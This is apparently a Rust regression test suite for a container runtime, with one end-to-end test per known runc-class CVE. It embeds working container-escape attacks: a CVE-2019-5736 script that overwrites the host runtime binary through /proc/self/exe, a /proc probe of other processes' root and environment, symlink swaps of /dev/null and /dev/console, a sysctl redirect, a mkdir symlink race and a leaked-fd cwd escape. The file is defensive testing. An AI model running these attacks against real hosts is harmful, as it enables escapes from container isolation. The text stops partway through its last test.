//! One end-to-end test per container-runtime CVE class (issue 9): each performs the attack from
//! inside a real busybox container, or hands the runtime a hostile bundle, and fails on a runtime
//! that has the bug. Races are driven deterministically where a hook or a full pipe can hold the
//! runtime at the vulnerable moment, and otherwise looped for a bounded time.
//!
//! `BRIG=/usr/sbin/runc` runs them against runc; where Debian's runc 1.1.5 is known to be
//! vulnerable the test says so (and then fails there, which is the proof that it can fail).

use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use brig_tests::*;
use serde_json::{json, Value};

const T: Duration = Duration::from_secs(20);

/// A host directory bind-mounted read-write at `/out` of the container, for the attacker's log.
fn with_out(c: &mut Value, dir: &Path) {
    add_mount(
        c,
        json!({"destination": "/out", "type": "bind", "source": dir.to_str().unwrap(),
               "options": ["rbind", "rw"]}),
    );
}

/// Waits until `file` has a line for which `done` holds; returns the whole text.
fn wait_log(file: &Path, timeout: Duration, done: impl Fn(&str) -> bool) -> String {
    let start = Instant::now();
    loop {
        // Lossy: an attacker may log bytes it read from a binary.
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap_or_default()).into_owned();
        if text.lines().any(&done) || start.elapsed() > timeout {
            return text;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Copies `bin` and the shared libraries it needs (per ldd) into `rootfs`, at their host paths,
/// so the container can execute that binary: an image that ships a libc is all the attack of
/// CVE-2019-5736 needs.
fn install_runtime_libs(rootfs: &Path, bin: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let path = line
            .split("=>")
            .last()
            .unwrap()
            .split_whitespace()
            .next()
            .unwrap_or("");
        if let Some(rel) = path.strip_prefix('/') {
            let dst = rootfs.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(path, &dst).unwrap_or_else(|e| panic!("copy {path}: {e}"));
        }
    }
}

/// A private copy of the runtime under test (same file name, so `is_brig` still works): the
/// attack of CVE-2019-5736 writes to it, and no other test may be executing it meanwhile.
fn private_runtime(test: &str, dir: &Path) -> Option<Runtime> {
    let bin = binary_path();
    if !bin.is_file() {
        return Runtime::new(test);
    }
    let copy = dir.join(bin.file_name().unwrap());
    std::fs::copy(&bin, &copy).unwrap();
    Runtime::with_binary(test, copy)
}

/// A pipe whose buffer is already full: a process writing to it blocks until the read end
/// (returned first) is closed.
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let mut fds = [0i32; 2];
    // SAFETY: pipe2 with a valid array of two ints.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    // SAFETY: fresh fds from the kernel, owned here.
    let (r, w) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    // SAFETY: fcntl on our own fd.
    let size = unsafe { libc::fcntl(w.as_raw_fd(), libc::F_GETPIPE_SZ) };
    let buf = vec![b'x'; size as usize];
    // SAFETY: write from a buffer of the given length.
    let n = unsafe { libc::write(w.as_raw_fd(), buf.as_ptr().cast(), buf.len()) };
    assert_eq!(n, size as isize);
    (r, w)
}

/// The attacker of CVE-2019-5736, run in the container: it waits for a process whose argv[0] is
/// `/proc/self/exe` (the runtime binary, run as the interpreter of `/evil`), keeps an fd of its
/// executable, and, once the test has let that process die, tries to append to the binary
/// through the fd (nothing is truncated).
const EXE_ATTACKER: &str = r#"
log=/out/log
while :; do
  for d in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
      /proc/self/exe*)
        if head -c 1 $d/exe >/dev/null 2>&1; then
          exec 3< $d/exe
          echo got >> $log
          break 2
        fi;;
    esac
  done
done
while [ ! -e /out/go ]; do sleep 0.05; done
i=0
while [ $i -lt 100 ]; do
  if err=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ); then
    echo written >> $log
    exec sleep 1000
  fi
  i=$((i+1))
  sleep 0.05
done
echo "failed: $err" >> $log
exec sleep 1000
"#;

/// The bundle of the attacker container for the CVE-2019-5736 tests.
fn exe_attack_bundle(out: &Path, bin: &Path) -> Bundle {
    let b = Bundle::new(&["sh", "/attack.sh"]).with(|c| with_out(c, out));
    std::fs::write(b.rootfs().join("attack.sh"), EXE_ATTACKER).unwrap();
    // A hostile image: its entrypoint is a script whose interpreter is /proc/self/exe.
    let evil = b.rootfs().join("evil");
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    install_runtime_libs(&b.rootfs(), bin);
    b
}

/// Runs `args` of the runtime with stdout and stderr on a full pipe, so that the runtime binary,
/// if the container gets to execute it, blocks on its first write. Lets the attacker report,
/// then closes the pipe, waits for the runtime, and lets the attacker try the write.
fn drive_exe_attack(rt: &Runtime, args: &[&str], out: &Path) -> String {
    let (r, w) = full_pipe();
    let mut cmd = rt.command(&[], args);
    cmd.stdout(Stdio::from(w.try_clone().unwrap()))
        .stderr(Stdio::from(w));
    let child = cmd.spawn().unwrap();
    let log = out.join("log");
    let text = wait_log(&log, Duration::from_secs(10), |l| l == "got");
    drop(r);
    wait_child(child, T).expect("runtime command did not end after its pipe closed");
    std::fs::write(out.join("go"), "").unwrap();
    let done = |l: &str| l == "written" || l.starts_with("failed");
    let text = if text.lines().any(|l| l == "got") {
        wait_log(&log, T, done)
    } else {
        text
    };
    println!("attacker log:\n{text}");
    text
}

/// CVE-2019-5736: a container runs the runtime's own binary (an image whose entrypoint is
/// `#!/proc/self/exe`), keeps a read-only fd of it, and after the runtime has exited reopens
/// that fd for writing through /proc/self/fd. A vulnerable runtime (one that execs the
/// container process straight from its host binary) has its binary on the host overwritten.
/// runc 1.1.5 runs from a sealed memfd copy; brig runs from a read-only view of its binary.
#[test]
fn cve_2019_5736_proc_self_exe_exec() {
    let bins = tempfile::tempdir().unwrap();
    let Some(rt) = private_runtime("cve_2019_5736_proc_self_exe_exec", bins.path()) else {
        return;
    };
    let before = std::fs::read(rt.bin()).unwrap();
    let out = tempfile::tempdir().unwrap();
    let b = exe_attack_bundle(out.path(), rt.bin());
    let id = rt.new_id("exe-exec");
    rt.run_detached(&b, &id).assert_ok();
    let log = drive_exe_attack(&rt, &["exec", &id, "/evil"], out.path());
    let after = std::fs::read(rt.bin()).unwrap();
    assert!(
        after == before,
        "the container wrote to the runtime binary on the host; attacker log:\n{log}"
    );
    assert!(
        log.lines().any(|l| l == "got"),
        "the attack never got hold of the runtime binary (test is broken): {log}"
    );
    assert!(!log.contains("written"), "{log}");
    rt.delete_force(&id).assert_ok();
    assert_no_leftovers(&rt, &id, &b);
}

/// CVE-2019-5736 through the container's init: `run` of a container whose process is
/// `#!/proc/self/exe`, in the pid namespace of an attacker container.
#[test]
fn cve_2019_5736_proc_self_exe_run() {
    let bins = tempfile::tempdir().unwrap();
    let Some(rt) = private_runtime("cve_2019_5736_proc_self_exe_run", bins.path()) else {
        return;
    };
    let before = std::fs::read(rt.bin()).unwrap();
    let out = tempfile::tempdir().unwrap();
    let a = exe_attack_bundle(out.path(), rt.bin());
    let ida = rt.new_id("exe-a");
    rt.run_detached(&a, &ida).assert_ok();
    let pidns = format!("/proc/{}/ns/pid", rt.pid(&ida));
    let b = Bundle::new(&["/evil"]).with(|c| set_namespace_path(c, "pid", &pidns));
    std::fs::write(b.rootfs().join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        b.rootfs().join("evil"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    install_runtime_libs(&b.rootfs(), rt.bin());
    let idb = rt.new_id("exe-b");
    let log = drive_exe_attack(&rt, &["run", "--bundle", b.path_str(), &idb], out.path());
    let after = std::fs::read(rt.bin()).unwrap();
    assert!(
        after == before,
        "the container wrote to the runtime binary on the host; attacker log:\n{log}"
    );
    assert!(
        log.lines().any(|l| l == "got"),
        "the attack never got hold of the runtime binary (test is broken): {log}"
    );
    rt.delete_force(&idb);
    rt.delete_force(&ida).assert_ok();
    assert_no_leftovers(&rt, &ida, &a);
}

/// The attacker of CVE-2016-9962: it looks for a process of the runtime (its cmdline names
/// `$RT`) that has entered its pid namespace, and tries to reach that process's root, cwd,
/// executable and environment through /proc. Each attempt is logged. It starts once the
/// test has created `$WAIT` (the runtime's process is then where the test wants it).
const PROC_ATTACKER: &str = r#"
log=/out/log
while [ ! -e "$WAIT" ]; do sleep 0.05; done
seen=
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case " $seen " in *" $p "*) continue;; esac
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
      *"$RT"*)
        seen="$seen $p"
        for what in root/ cwd/ exe environ; do
          case $what in */) cmd=ls;; *) cmd="head -c 100";; esac
          if l=$($cmd $d/$what 2>&1); then
            echo "readable $what of $p: $(echo $l | head -c 100)" >> $log
          else
            echo "denied $what of $p: $l" >> $log
          fi
        done
        echo "done $p" >> $log;;
    esac
  done
done
"#;

fn proc_attack_bundle(out: &Path, rt: &Runtime) -> Bundle {
    let name = rt.bin().file_name().unwrap().to_str().unwrap().to_string();
    let b = Bundle::new(&["sh", "/attack.sh"]).with(|c| {
        with_out(c, out);
        c["process"]["env"]
            .as_array_mut()
            .unwrap()
            .extend([json!(format!("RT={name}")), json!("WAIT=/out/go")]);
    });
    std::fs::write(b.rootfs().join("attack.sh"), PROC_ATTACKER).unwrap();
    b
}

/// CVE-2016-9962: a container created in the pid namespace of another one waits for `start`
/// in the runtime's init, which has already dropped to the container's capabilities but still
/// holds the runtime's memory and fds (the exec fifo in the state dir). It must not be
/// dumpable, or a process of the other container with the same uid and capabilities can open
/// its /proc entries or ptrace it.
#[test]
fn cve_2016_9962_init_not_dumpable() {
    let Some(rt) = Runtime::new("cve_2016_9962_init_not_dumpable") else {
        return;
    };
    let out = tempfile::tempdir().unwrap();
    // The attacker starts once `create` has returned: the init is then waiting for `start`
    // with its final capabilities (earlier it may still hold all of them, which hides a
    // dumpable init from an attacker that has fewer).
    let a = proc_attack_bundle(out.path(), &rt);
    let ida = rt.new_id("dump-a");
    rt.run_detached(&a, &ida).assert_ok();
    let pidns = format!("/proc/{}/ns/pid", rt.pid(&ida));
    let b = Bundle::new(&["true"]).with(|c| set_namespace_path(c, "pid", &pidns));
    let idb = rt.new_id("dump-b");
    rt.create_ok(&b, &idb);
    std::fs::write(out.path().join("go"), "").unwrap();
    let log = wait_log(&out.path().join("log"), T, |l| l.starts_with("done"));
    println!("attacker log:\n{log}");
    assert!(
        log.lines().any(|l| l.starts_with("done")),
        "the attacker never saw the runtime's process (test is broken): {log}"
    );
    assert!(
        !log.contains("readable"),
        "a container process reached the init of another container through /proc: {log}"
    );
    rt.delete_force(&idb).assert_ok();
    rt.delete_force(&ida).assert_ok();
    assert_no_leftovers(&rt, &ida, &a);
}

/// CVE-2024-21626 for the init: `process.cwd` naming one of the runtime's fds
/// (/proc/self/fd/N) must not give the container a cwd on the host. runc < 1.1.12 leaked an fd
/// of the host's /sys/fs/cgroup there and the container escaped through `..`.
#[test]
fn cve_2024_21626_init_cwd_through_leaked_fd() {
    let Some(rt) = Runtime::new("cve_2024_21626_init_cwd_through_leaked_fd") else {
        return;
    };
    for n in 3..=10 {
        let cwd = format!("/proc/self/fd/{n}");
        let b = Bundle::sh("pwd; ls ../../../../../../ | head -c 300").with(|c| {
            c["process"]["cwd"] = json!(cwd);
        });
        let id = rt.new_id("cwdfd");
        let out = rt.run_capture(&b, &id);
        if out.success() {
            // Only acceptable if the cwd is a directory inside the container: pwd then names
            // it, and `..` climbs to the container's root, never the host's.
            assert!(
                out.stdout.starts_with('/') && !out.stdout.contains("(unreachable)"),
                "cwd {cwd}: {out}"
            );
            let top: Vec<&str> = out.stdout.lines().skip(1).collect();
            assert!(
                !top.iter()
                    .any(|l| *l == "work" || *l == "boot" || *l == "home"),
                "cwd {cwd}: the container sees the host's root: {out}"
            );
        }
        rt.delete_force(&id);
        assert_no_leftovers(&rt, &id, &b);
    }
}

/// CVE-2024-21626, fds: the init of a container holds only its stdio (and --preserve-fds),
/// nothing of the runtime (state dir, sync sockets, cgroup dirs).
#[test]
fn cve_2024_21626_init_leaks_no_fds() {
    let Some(rt) = Runtime::new("cve_2024_21626_init_leaks_no_fds") else {
        return;
    };
    let b = Bundle::new(&["sleep", "1000"]);
    let id = rt.new_id("initfds");
    rt.run_detached(&b, &id).assert_ok();
    let pid = rt.pid(&id);
    let mut fds: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let target = std::fs::read_link(e.path()).unwrap_or_default();
            format!(
                "{} -> {}",
                e.file_name().to_str().unwrap(),
                target.display()
            )
        })
        .collect();
    fds.sort();
    let extra: Vec<&String> = fds
        .iter()
        .filter(|f| !["0 ", "1 ", "2 "].iter().any(|p| f.starts_with(p)))
        .collect();
    assert!(extra.is_empty(), "the container's init holds: {fds:?}");
    let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).unwrap();
    assert_eq!(cwd, PathBuf::from("/"), "init's cwd");
    rt.delete_force(&id).assert_ok();
    assert_no_leftovers(&rt, &id, &b);
}

/// A prestart hook (it runs on the host while the init waits, after the runtime made /dev and
/// before it masks paths) that does to the container what a racing process sharing its mounts
/// could: runs `script` with `$d` set to the container's /dev as the init sees it.
fn dev_tamper_hook(rootfs: &Path, script: &str) -> Value {
    let s = format!(
        "pid=$(sed -n 's/.*\"pid\": *\\([0-9]*\\).*/\\1/p'); d=/proc/$pid/root{}/dev; {script}",
        rootfs.display()
    );
    json!({"prestart": [{"path": "/bin/sh", "args": ["sh", "-c", s]}]})
}

/// CVE-2025-31133 (and youki's CVE-2025-62161): the runtime masks files by bind-mounting the
/// container's /dev/null over them. If /dev/null has been replaced by a symlink (here to the
/// container's /proc/sys/kernel/hostname, in the advisory to core_pattern) a vulnerable
/// runtime binds the symlink's target, writable, over /proc/keys. The runtime must refuse
/// (or mask with the real device): /proc/keys then reads empty. runc 1.1.5 is vulnerable.
/// (/proc/keys, not /proc/kcore: a masked path that does not exist is skipped, and kernels
/// without CONFIG_PROC_KCORE have no /proc/kcore.)
#[test]
fn cve_2025_31133_masked_path_through_swapped_dev_null() {
    let Some(rt) = Runtime::new("cve_2025_31133_masked_path_through_swapped_dev_null") else {
        return;
    };
    // The result goes to a file of the host: the runtime may reopen the container's stdio
    // through the swapped /dev/null (runc does), which would lose it.
    let dir = tempfile::tempdir().unwrap();
    let mut b =
        Bundle::sh("test -e /proc/keys && echo \"keys=[$(head -c 64 /proc/keys)]\" > /out/o")
            .with(|c| with_out(c, dir.path()));
    let hook = dev_tamper_hook(
        &b.rootfs(),
        "rm -f $d/null && ln -s /proc/sys/kernel/hostname $d/null",
    );
    b.edit(|c| {
        c["hostname"] = json!("masked-leak");
        c["hooks"] = hook;
    });
    let id = rt.new_id("devnull");
    let out = rt.run_capture(&b, &id);
    let seen = std::fs::read_to_string(dir.path().join("o")).unwrap_or_default();
    println!("{out}\n/out/o: {seen}");
    assert!(
        !seen.contains("masked-leak"),
        "a masked path shows the file /dev/null was swapped for: {seen}"
    );
    if out.success() {
        assert_eq!(seen.trim(), "keys=[]", "{out}");
    }
    rt.delete_force(&id);
    assert_no_leftovers(&rt, &id, &b);
}

/// CVE-2025-52565 (and crun's /dev/console advisories): with a terminal, the runtime binds the
/// pty on /dev/console. A /dev/console that is a symlink (here to /etc/victim) must be replaced,
/// never followed: a vulnerable runtime mounts the pty over the symlink's target.
#[test]
fn cve_2025_52565_dev_console_symlink() {
    let Some(rt) = Runtime::new("cve_2025_52565_dev_console_symlink") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("console.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let mut b = Bundle::sh("sleep 1000");
    std::fs::write(b.rootfs().join("etc/victim"), "victim\n").unwrap();
    let hook = dev_tamper_hook(
        &b.rootfs(),
        "rm -f $d/console; ln -s /etc/victim $d/console",
    );
    b.edit(|c| {
        c["process"]["terminal"] = json!(true);
        c["hooks"] = hook;
    });
    let id = rt.new_id("console");
    let accept = std::thread::spawn(move || listener.accept().map(|(s, _)| s));
    let out = rt.cmd(&[
        "run",
        "-d",
        "--console-socket",
        sock.to_str().unwrap(),
        "--bundle",
        b.path_str(),
        &id,
    ]);
    println!("{out}");
    if out.success() {
        let _conn = accept.join().unwrap();
        let pid = rt.pid(&id);
        let mounts = std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
        assert!(
            !mounts
                .lines()
                .any(|l| l.split(' ').nth(4) == Some("/etc/victim")),
            "the pty was mounted over the symlink's target: {mounts}"
        );
        let console = std::fs::symlink_metadata(format!("/proc/{pid}/root/dev/console")).unwrap();
        assert!(
            !console.file_type().is_symlink(),
            "/dev/console is still a symlink"
        );
    }
    rt.delete_force(&id);
    assert_no_leftovers(&rt, &id, &b);
}

/// CVE-2025-52881 (youki CVE-2025-62596): the runtime's sysctl writes must not follow a mount
/// that something sharing the container's mounts placed over /proc/sys (here a prestart hook
/// bind-mounts a host file over net.ipv4.ip_forward in the init's mount namespace). A
/// vulnerable runtime writes the sysctl's value into that file, which could as well be the
/// host's /proc/sys/kernel/core_pattern. runc 1.1.5 is vulnerable.
#[test]
fn cve_2025_52881_sysctl_write_redirected_by_mount() {
    let Some(rt) = Runtime::new("cve_2025_52881_sysctl_write_redirected_by_mount") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "victim\n").unwrap();
    let mut b =
        Bundle::sh("grep ip_forward /proc/self/mountinfo; cat /proc/sys/net/ipv4/ip_forward");
    let script = format!(
        "pid=$(sed -n 's/.*\"pid\": *\\([0-9]*\\).*/\\1/p'); \
         nsenter -m -n -t $pid mount --bind {} {}/proc/sys/net/ipv4/ip_forward 2>{}.err",
        victim.display(),
        b.rootfs().display(),
        victim.display()
    );
    b.edit(|c| {
        c["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
        c["hooks"] = json!({"prestart": [{"path": "/bin/sh", "args": ["sh", "-c", script]}]});
    });
    let id = rt.new_id("sysctl");
    let out = rt.run_capture(&b, &id);
    println!("{out}");
    println!(
        "hook: {}",
        std::fs::read_to_string(dir.path().join("victim.err")).unwrap_or_default()
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "victim\n",
        "the sysctl write went to the file mounted over /proc/sys: {out}"
    );
    rt.delete_force(&id);
    assert_no_leftovers(&rt, &id, &b);
}

/// CVE-2019-16884: a mount over /proc that is not procfs would hide the procfs the runtime
/// relies on (for LSM labels, sysctls, masked paths). The bundle is refused.
#[test]
fn cve_2019_16884_mount_over_proc_refused() {
    let Some(rt) = Runtime::new("cve_2019_16884_mount_over_proc_refused") else {
        return;
    };
    let host = tempfile::tempdir().unwrap();
    let hp = host.path().to_str().unwrap().to_string();
    for m in [
        json!({"destination": "/proc", "type": "tmpfs", "source": "tmpfs"}),
        json!({"destination": "/proc", "type": "bind", "source": hp, "options": ["rbind"]}),
    ] {
        let b = Bundle::new(&["true"]).with(|c| add_mount(c, m.clone()));
        let id = rt.new_id("procover");
        let out = rt.run_capture(&b, &id);
        assert!(!out.success(), "mount {m} over /proc accepted: {out}");
        rt.delete_force(&id);
        assert_no_leftovers(&rt, &id, &b);
    }
}

/// CVE-2019-19921 / CVE-2023-27561 / CVE-2023-28642: a rootfs whose /proc is a symlink (to an
/// absolute host path, or a `..` chain) must not get procfs mounted where the link points; the
/// runtime refuses, and nothing appears on the host.
#[test]
fn cve_2019_19921_symlinked_proc_refused() {
    let Some(rt) = Runtime::new("cve_2019_19921_symlinked_proc_refused") else {
        return;
    };
    let host = tempfile::tempdir().unwrap();
    for target in [host.path().to_str().unwrap(), "../../../../../../../tmp"] {
        let b = Bundle::new(&["true"]);
        std::fs::remove_dir(b.rootfs().join("proc")).unwrap();
        std::os::unix::fs::symlink(target, b.rootfs().join("proc")).unwrap();
        let id = rt.new_id("procsym");
        let out = rt.run_capture(&b, &id);
        assert!(!out.success(), "/proc -> {target} accepted: {out}");
        assert!(
            std::fs::read_dir(host.path()).unwrap().next().is_none(),
            "something landed in the host dir"
        );
        rt.delete_force(&id);
        assert_no_leftovers(&rt, &id, &b);
    }
}

/// CVE-2022-29162 (crun CVE-2022-27650): no inheritable capabilities unless the config asks,
/// after `run` and in what `spec` writes (`exec --cap` is checked in terminal_exec.rs).
#[test]
fn cve_2022_29162_no_inheritable_capabilities() {
    let Some(rt) = Runtime::new("cve_2022_29162_no_inheritable_capabilities") else {
        return;
    };
    let b = Bundle::sh("grep CapInh /proc/self/status");
    let id = rt.new_id("capinh");
    let out = rt.run_capture(&b, &id);
    out.assert_ok();
    assert_eq!(
        out.out().split_whitespace().collect::<Vec<_>>(),
        ["CapInh:", "0000000000000000"],
        "{out}"
    );
    assert_no_leftovers(&rt, &id, &b);
    let dir = tempfile::tempdir().unwrap();
    rt.cmd(&["spec", "--bundle", dir.path().to_str().unwrap()])
        .assert_ok();
    let spec: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("config.json")).unwrap())
            .unwrap();
    let inh = &spec["process"]["capabilities"]["inheritable"];
    assert!(
        inh.is_null() || inh.as_array().is_some_and(|a| a.is_empty()),
        "spec sets inheritable capabilities: {inh}"
    );
}

/// CVE-2024-45310 / CVE-2021-30465: a container swaps a directory of a shared volume with a
/// symlink to a host directory in a loop, while containers that mount below that directory
/// start. Mount targets and their mkdir-all must resolve inside the container's root, so
/// nothing is ever created in the host directory. Bounded to about 12 seconds. runc 1.1.5 is
/// vulnerable to CVE-2024-45310 (fixed in 1.1.14).
#[test]
fn cve_2024_45310_mkdir_all_symlink_race() {
    let Some(rt) = Runtime::new("cve_2024_45310_mkdir_all_symlink_race") else {
        return;
    };
    let vol = tempfile::tempdir().unwrap();
    let host = tempfile::tempdir().unwrap();
    let vp = vol.path().to_str().unwrap().to_string();
    let volume =
        json!({"destination": "/vol", "type": "bind", "source": vp, "options": ["rbind", "rw"]});
    let swap = format!(
        "while :; do rm -rf /vol/a; mkdir /vol/a; rm -rf /vol/a; ln -s {} /vol/a; done",
        host.path().display()
    );
    let a = Bundle::sh(&swap).with(|c| add_mount(c, volume.clone()));
    let ida = rt.new_id("race-a");
    rt.run_detached(&a, &ida).assert_ok();
    let start = Instant::now();
    let (mut ok, mut failed) = (0, 0);
    while start.elapsed() < Duration::from_secs(12) {
        let b = Bundle::new(&["true"]).with(|c| {
            add_mount(c, volume.clone());
            add_mount(
                c,
                json!({"destination": "/vol/a/b/c", "type": "tmpfs", "source": "tmpfs"}),
            );
        });
        let id = rt.new_id("race-b");
        if rt.run_capture(&b, &id).success() {
            ok += 1;
        } else {
            failed += 1;
        }
        rt.delete_force(&id);
        let landed: Vec<_> = std::fs::read_dir(host.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert!(
            landed.is_empty(),
            "created on the host through the swapped symlink: {landed:?}"
        );
    }
    println!("{ok} containers started, {failed} refused");
    rt.delete_force(&ida).assert_ok();
    assert_no_leftovers(&rt, &ida, &a);
}

/// The state root is private (0700, as runc makes it): another local user cannot open a created
/// container's exec fifo (reading it would start the container) nor read its state.
#[test]
fn state_root_is_private() {
    let Some(rt) = Runtime::new("state_root_is_private") else {
        return;
    };
    let b = Bundle::new(&["true"]);
    let id = rt.new_id("private");
    rt.create_ok(&b, &id);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(rt.root()).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        mode & 0o077,
        0,
        "state root {} is mode {mode:o}",
        rt.root().display()
    );
    // As an unprivileged user (nobody), the fifo cannot be opened.
    let fifo = rt.root().join(&id).join("exec.fifo");
    let out = std::process::Command::new("runuser")
        .args(["-u", "nobody", "--", "dd", "if=/dev/null", "of=/dev/null"])
        .status();
    if out.map(|s| s.success()).unwrap_or(false) {
        let st = std::process::Command::new("runuser")
            .args(["-u", "nobody", "--", "timeout", "2", "cat"])
            .arg(&fifo)
            .output()
            .unwrap();
        assert!(!st.status.success(), "nobody opened {}", fifo.display());
        assert_eq!(
            rt.status(&id).as_deref(),
            Some("created"),
            "the container was started by another user"
        );
    }
    rt.delete_force(&id).assert_ok();
    assert_no_leftovers(&rt, &id, &b);
}

/// Accepts one connection on `listener` (non-blocking) within `timeout`.
fn accept_within(
    listener: &std::os::unix::net::UnixListener,
    timeout: Duration,
) -> Option<std::os::unix::net::UnixStream> {
    listener.set_nonblocking(true).unwrap();
    let start = Instant::now();
    while start.elapsed() < timeout {
        if let Ok((s, _)) = listener.accept() {
            s.set_nonblocking(false).unwrap();
            return Some(s);
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    None
}

/// CVE-2016-9962 for `exec`: the process that joins a running container holds the runtime's
/// memory and fds (sync socket, namespace fds) until its execve. Here it is held there: the
/// config has a seccomp notify listener, whose fd the runtime hands to an agent after the
/// joining process has dropped to the container's uid and capabilities and before it execs,
/// and the listener metadata is large enough (1 MiB) that the runtime's send blocks until the
/// test's agent reads it all. Meanwhile the attacker (the container's init, with the same uid
/// and capabilities) tries that process's /proc entries. A vulnerable runtime leaves it
/// dumpable, and the attacker reads its root, cwd, exe and environment (and could ptrace it).
#[test]
fn cve_2016_9962_exec_not_dumpable() {
    let Some(rt) = Runtime::new("cve_2016_9962_exec_not_dumpable") else {
        return;
    };
    let out = tempfile::tempdir().unwrap();
    let sock = out.path().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let mut a = proc_attack_bundle(out.path(), &rt);
    let sp = sock.to_str().unwrap().to_string();
    a.edit(|c| {
        c["process"]["noNewPrivileges"] = json!(true);
        c["linux"]["seccomp"] = json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "listenerPath": sp,
            "listenerMetadata": "m".repeat(1 << 20),
            "syscalls": [{"names": ["acct"], "action": "SCMP_ACT_NOTIFY"}]
        });
    });
    let ida = rt.new_id("xdump");
    // The init's listener goes to the agent first: take it all.
    let run = rt.spawn(&["run", "-d", "--bundle", a.path_str(), &ida]);
    let mut init_conn = accept_within(&listener, T).expect("run never reached the agent");
    std::io::copy(&mut init_conn, &mut std::io::sink()).unwrap();
    run.wait_timeout(T).assert_ok();
    let exec = rt.spawn(&["exec", &ida, "true"]);
    let mut exec_conn = accept_within(&listener, T).expect("exec never reached the agent");
    // Some of the message, not all: the runtime is now blocked in its send.
    let mut first = [0u8; 4096];
    std::io::Read::read_exact(&mut exec_conn, &mut first).unwrap();
    std::fs::write(out.path().join("go"), "").unwrap();
    let log = wait_log(&out.path().join("log"), T, |l| l.starts_with("done"));
    println!("attacker log:\n{log}");
    std::io::copy(&mut exec_conn, &mut std::io::sink()).unwrap();
    println!("{}", exec.wait_timeout(T));
    assert!(
        log.lines().any(|l| l.starts_with("done")),
        "the attacker never saw the joining process (test is broken): {log}"
    );
    assert!(
        !log.contains("readable"),
        "a container process reached the runtime's joining process through /proc: {log}"
    );
    rt.delete_force(&ida).assert_ok();
    assert_no_leftovers(&rt, &ida, &a);
}

/// The lines of `mountinfo` whose mounts a path lookup reaches: a mount at P hides the earlier
/// mounts at P and below it (they stay in the table, out of reach without CAP_SYS_ADMIN).
fn visible_mounts(mountinfo: &str) -> Vec<&str> {
    let mut visible: Vec<(&str, &str, &str)> = Vec::new(); // (id, mount point, line)
    for line in mountinfo.lines() {
        let f: Vec<&str> = line.split(' ').collect();
        let (id, point) = (f[0], f[4]);
        visible.retain(|(_, p, _)| *p != point && !p.starts_with(&format!("{point}/")));
        visible.push((id, point, line));
    }
    visible.into_iter().map(|(_, _, l)| l).collect()
}

/// CVE-2023-25809: a rootless container without a cgroup namespace cannot mount a fresh cgroupfs,
/// so the runtime binds the host's /sys/fs/cgroup (and `runc spec --rootless` rbinds the host's
/// /sys, cgroup hierarchies included). A vulnerable runtime leaves those mounts writable, and
/// the container can write to the user's delegated cgroup, or any host cgroup it owns. Each
/// cgroupfs mount the container reaches at or below /sys/fs/cgroup must be read-only (brig
/// shows an empty read-only tmpfs there; runc 1.1.5 binds each hierarchy read-only). The runtime runs as an unprivileged
/// user, with the config its own `spec --rootless` writes, minus any cgroup namespace.
#[test]
fn cve_2023_25809_rootless_cgroupfs_read_only() {
    let Some(rt) = Runtime::new("cve_2023_25809_rootless_cgroupfs_read_only") else {
        return;
    };
    let (_top, bundle, xdg) = rootless_bundle();
    run_as_rootless_user(rt.bin(), &xdg, &bundle, &["spec", "--rootless"]).assert_ok();
    let cfg = bundle.join("config.json");
    let mut c: Value = serde_json::from_str(&std::fs::read_to_string(&cfg).unwrap()).unwrap();
    c["process"]["terminal"] = json!(false);
    c["process"]["args"] = json!(["sh", "-c", "grep ' /sys/fs/cgroup' /proc/self/mountinfo"]);
    remove_namespace(&mut c, "cgroup");
    std::fs::write(&cfg, c.to_string()).unwrap();
    let id = unique("cgro");
    let out = run_as_rootless_user(rt.bin(), &xdg, &bundle, &["run", &id]);
    println!("{out}");
    out.assert_ok();
    let mounts = visible_mounts(&out.stdout);
    assert!(
        mounts
            .iter()
            .any(|m| m.split(' ').nth(4) == Some("/sys/fs/cgroup")),
        "nothing mounted at /sys/fs/cgroup (test is broken): {out}"
    );
    for m in &mounts {
        // mountinfo: id parent major:minor root mountpoint options ... - fstype source super
        let opts = m.split(' ').nth(5).unwrap_or("");
        let fstype = m.split(" - ").nth(1).unwrap_or("");
        assert!(
            !fstype.starts_with("cgroup") || opts.split(',').any(|o| o == "ro"),
            "writable cgroup mount in a rootless container: {m}"
        );
